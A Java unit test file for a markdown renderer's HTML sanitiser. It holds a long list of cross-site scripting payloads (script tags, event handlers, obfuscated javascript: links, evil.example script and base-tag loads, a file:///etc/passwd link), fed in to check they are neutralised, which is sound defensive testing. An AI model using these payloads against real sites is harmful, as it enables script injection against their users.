package org.commonweave.markup;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Whatever is typed, the HTML holds only harmless elements, attributes and addresses.
class SafetyTest {

    private static final Set<String> ELEMENTS = Set.of(
            "p",
            "br",
            "hr",
            "blockquote",
            "pre",
            "code",
            "em",
            "strong",
            "del",
            "sup",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "div",
            "aside",
            "section",
            "figure",
            "figcaption",
            "details",
            "summary",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "a",
            "img",
            "input");

    private static final Set<String> ATTRIBUTES = Set.of(
            "href",
            "title",
            "data-path",
            "src",
            "alt",
            "loading",
            "decoding",
            "rel",
            "data-embed",
            "start",
            "type",
            "checked",
            "disabled",
            "id",
            "aria-label",
            "role",
            "tabindex",
            "scope",
            "class");

    private static final Pattern HARMLESS_ADDRESS = Pattern.compile("(?i)(https?|mailto|tel):.*|[^:]*|[^:]*[/?#].*");

    private static final List<String> ATTACKS_WITH_RARE_CHARACTERS = List.of(
            "<\u0000script>alert(1)</script>",
            "<script\u2028>alert(1)</script>",
            "[x](\u0000javascript:alert(1))",
            "[x](java\u00adscript:alert(1))",
            "\ud83d<script>alert(1)</script>");

    private static Stream<String> attacks() {
        return Stream.concat("""
                <script>alert(1)</script>
                <SCRIPT SRC=//evil.example/x.js></SCRIPT>
                <scr<script>ipt>alert(1)</scr</script>ipt>
                <script⏎>alert(1)</script⏎>
                <script>alert(1)//
                </p><script>alert(1)</script>
                <img src=x onerror=alert(1)>
                <img src=x onerror⏎=⏎alert(1)>
                <img/src="x"/onerror=alert(1)>
                <img src="x` `<script>alert(1)</script>"` `>
                <svg onload=alert(1)>
                <svg><script>alert&#40;1)</script></svg>
                <svg><animate onbegin=alert(1) attributeName=x dur=1s>
                <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
                <iframe src="javascript:alert(1)"></iframe>
                <iframe srcdoc="<script>alert(1)</script>">
                <object data="data:text/html,<script>alert(1)</script>">
                <embed src="javascript:alert(1)">
                <base href="https://evil.example/">
                <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
                <link rel=stylesheet href=//evil.example/x.css>
                <style>*{background:url(javascript:alert(1))}</style>
                <p style="background:url('javascript:alert(1)')">x</p>
                <form action=javascript:alert(1)><input type=submit></form>
                <button formaction=javascript:alert(1)>x</button>
                <details open ontoggle=alert(1)>
                <video><source onerror=alert(1)></video>
                <body onload=alert(1)>
                <a href="javascript:alert(1)">x</a>
                <a href=x onclick=alert(1)>x</a>
                <template><script>alert(1)</script></template>
                <noscript><p title="</noscript><img src=x onerror=alert(1)>">
                <!--><script>alert(1)</script>-->
                <!-- --!><img src=x onerror=alert(1)> -->
                <![CDATA[<script>alert(1)</script>]]>
                <?php <script>alert(1)</script> ?>
                <!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>
                <x contenteditable onblur=alert(1)>x</x>
                &lt;script&gt;alert(1)&lt;/script&gt;
                &#60;img src=x onerror=alert(1)&#62;
                [x](javascript:alert(1))
                [x](JaVaScRiPt:alert(1))
                [x]( javascript:alert(1))
                [x](<javascript:alert(1)>)
                [x](<java\tscript:alert(1)>)
                [x](javascript&colon;alert(1))
                [x](javascript&#58;alert(1))
                [x](javascript&#x3A;alert(1))
                [x](&#106;avascript:alert(1))
                [x](&#x6A&#x61;vascript:alert(1))
                [x](java&#10;script:alert(1))
                [x](java&Tab;script:alert(1))
                [x](java&NewLine;script:alert(1))
                [x](&#1;javascript:alert(1))
                [x](&#xFEFF;javascript:alert(1))
                [x](&nbsp;javascript:alert(1))
                [x](\\javascript:alert(1))
                [x](javascript\\:alert(1))
                [x](javascript://example.org/%0aalert(1))
                [x](javascript:alert(1) "title")
                [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
                [x](DATA:text/html,<script>alert(1)</script>)
                [x](vbscript:msgbox(1))
                [x](livescript:alert(1))
                [x](view-source:javascript:alert(1))
                [x](file:///etc/passwd)
                [x](blob:https://example.org/x)
                [x](feed:javascript:alert(1))
                [x](jar:javascript:alert(1)!/)
                [x](ms-word:ofe|u|https://evil.example/x)
                <javascript:alert(1)>
                <data:text/html,alert(1)>
                <vbscript:msgbox(1)>
                javascript:alert(1)
                [x]⏎⏎[x]: javascript:alert(1)
                [x][y]⏎⏎[y]: <java&#9;script:alert(1)> 'title'
                ![x](javascript:alert(1))
                ![x](data:image/svg+xml,<svg onload=alert(1)>)
                ![x](vbscript:msgbox(1) "title")
                ![" onerror="alert(1)](/x.png)
                ![x](/x.png" onerror="alert(1))
                ![x](</x.png" onerror="alert(1)> "a\\" onerror=\\"alert(1)")
                ![x](/x.png '"><script>alert(1)</script>')
                [x](/x '" onmouseover="alert(1)')
                [x](/x"onmouseover="alert(1))
                [<script>alert(1)</script>](/x)
                [![x](javascript:alert(1))](javascript:alert(2))
                [[<script>alert(1)</script>]]
                [[x" onmouseover="alert(1)|<img src=x onerror=alert(1)>]]
                [[javascript:alert(1)]]
                [[x#"><script>alert(1)</script>]]
                # <script>alert(1)</script>
                # x" onmouseover="alert(1)
                # [x](javascript:alert(1))
                #"><script>alert(1)</script>
                #x"onmouseover=alert(1)
                @x"onmouseover=alert(1)
                > [!TIP"><script>alert(1)</script>]⏎> x
                > [!TIP]⏎> <script>alert(1)</script>
                | <script>alert(1)</script> |⏎|---|⏎| <img src=x onerror=alert(1)> |
                - [ ] <script>alert(1)</script>
                - [x" onclick="alert(1)] x
                [^"><script>alert(1)</script>]⏎⏎[^"><script>alert(1)</script>]: x
                [^1]⏎⏎[^1]: [x](javascript:alert(1))
                ```x"onmouseover="alert(1)⏎x⏎```
                ```⏎</code></pre><script>alert(1)</script>⏎```
                `</code><script>alert(1)</script>`
                https://youtu.be/dQw4w9WgXcQ"onload="alert(1)
                [x](https://youtu.be/dQw4w9WgXcQ?t=1"onload="alert(1))
                [x](javascript:alert(1)//x.mp4)
                [x](data:video/mp4,x.mp4)
                https://example.org/"onmouseover="alert(1)
                https://example.org/<script>alert(1)</script>
                www.example.org/'onclick='alert(1)
                x@example.org"onclick="alert(1)
                ~~<script>alert(1)</script>~~
                *<img src=x onerror=alert(1)>*
                {{constructor.constructor('alert(1)')()}}
                ＜script＞alert(1)＜/script＞
                """.lines(), ATTACKS_WITH_RARE_CHARACTERS.stream());
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void attackDoesNotReachThePage(String attack) {
        assertHarmless(Texts.render(attack).html());
        assertHarmless(Texts.render("> - " + attack.replace("⏎", "⏎>   ")).html());
    }

    @Test
    void manyAttacksAreTried() {
        assertThat(attacks().toList()).hasSizeGreaterThan(100).doesNotHaveDuplicates();
    }

    @Test
    void rawHtmlIsShownAsText() {
        assertThat(Texts.html("a <b>c</b> <script>d</script>"))
                .isEqualTo("<p>a &lt;b&gt;c&lt;/b&gt; &lt;script&gt;d&lt;/script&gt;</p>");
        assertThat(Texts.html("<script>⏎*d*⏎</script>")).isEqualTo("<p>&lt;script&gt;*d*&lt;/script&gt;</p>");
    }

    @Test
    void sanitiserStandsByItself() {
        attacks().forEach(attack -> assertHarmless(SafeHtml.of(attack)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:x",
                "JAVASCRIPT:x",
                " javascript:x",
                "java\tscript:x",
                "java\r\nscript:x",
                "\u0001javascript:x",
                "\u00a0javascript:x",
                "\ufeffjavascript:x",
                "javascript :x",
                "data:x",
                "vbscript:x",
                "file:///x",
                "x:y",
                ":x"
            })
    void addressesWithOtherSchemesAreRefusedBeforeTheSanitiser(String address) {
        assertThat(Address.ofLink(address)).isEmpty();
        assertThat(Address.ofPicture(address)).isEmpty();
    }

    @Test
    void disguisesAreTakenOut() {
        assertThat(Texts.MARKUP.render("a\u0000b\u0007c\ud800d\u202Ee\uFFFFf").plainText())
                .isEqualTo("a\uFFFDbc\uFFFDde\uFFFDf");
    }

    @Test
    void charactersOfAllWritingSystemsStay() {
        String text = "שלום \u200Fעולם\u200E 日本語 😀 हिन्दी \u2067x\u2069 a\u0301 👩\u200D🌾";

        assertThat(Texts.MARKUP.render(text).plainText()).isEqualTo(text);
    }

    /// Pieces of all syntaxes put together at random; the seed makes a failure repeatable.
    @Test
    void randomTextIsHarmlessAndItsAnchorsAreUnique() {
        String[] pieces =
                ("* ** _ ~~ ` ``` [ ] ( ) [[ ]] ![ ]( < > <a <script> </p> <!-- --> & &amp; &#58; | |- - 1. > # ## "
                                + "[^1] [^1]: [!TIP] [!FOLDED] [x] [x]: javascript: https://a.org /wiki/x \" ' = \\ #tag @anna a b é 😀 \ud800")
                        .split(" ", -1);
        var random = new Random(1);
        for (int i = 0; i < 3_000; i++) {
            var text = new StringBuilder();
            for (int length = random.nextInt(60); length > 0; length--) {
                text.append(pieces[random.nextInt(pieces.length)]).append(random.nextBoolean() ? "" : " ");
                text.append(random.nextInt(6) == 0 ? "\n" : "").append(random.nextInt(12) == 0 ? "\n\n" : "");
            }
            assertHarmless(Texts.MARKUP.render(text.toString()).html());
        }
    }

    private static void assertHarmless(String html) {
        var body = Jsoup.parseBodyFragment(html).body();
        for (Element element : body.select("> *, > * *")) {
            assertThat(ELEMENTS).as(html).contains(element.normalName());
            for (Attribute attribute : element.attributes()) {
                assertThat(ATTRIBUTES).as(html).contains(attribute.getKey());
                if (Set.of("href", "src", "data-embed").contains(attribute.getKey())) {
                    assertThat(attribute.getValue()).matches(HARMLESS_ADDRESS).doesNotContain("\t", "\n");
                }
            }
        }
        assertThat(body.select("[id]").eachAttr("id")).as(html).doesNotHaveDuplicates();
        assertThat(html.replace("{<!-- -->", "{")).doesNotContain("<!", "<?");
    }
}
